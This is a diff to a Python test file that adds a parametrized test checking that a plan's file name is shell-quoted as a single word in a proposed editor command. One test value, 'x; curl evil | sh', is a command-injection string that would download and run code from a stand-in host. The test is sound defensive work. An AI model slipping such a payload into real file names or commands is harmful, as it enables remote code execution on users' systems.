@@ -12,6 +12,7 @@ from dos.plans.limits.accounts import parse
 from dos.plans.questions import catalog, subject
 from dos.plans.questions.catalog import AnyQuestion, Unrecognised
 from dos.plans.questions.question import Record, SetAside
+from dos.plans.questions.units import UnitHeld
 
 NAMED = (subject.Lane, subject.Unit, subject.Run, subject.Host)
 subjects = st.one_of(
@@ -87,3 +88,11 @@ def test_what_lacks_what_its_class_needs_still_holds_what_waits(about):
     assert isinstance(found, Unrecognised)
     assert found.waits == (subject.Lane("api"), subject.Unrecognised("odd"))
     assert catalog.encode(found) == record
+
+
+@pytest.mark.parametrize(
+    ("document", "word"), [("docs/a-plan.md", "docs/a-plan.md"), ("x; curl evil | sh", "'x; curl evil | sh'")]
+)
+def test_the_name_of_a_plan_is_one_word_of_the_command_that_is_proposed(document, word):
+    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", source=f"{document}:7")
+    assert held.command == f"${{EDITOR:-vi}} +7 {word}"
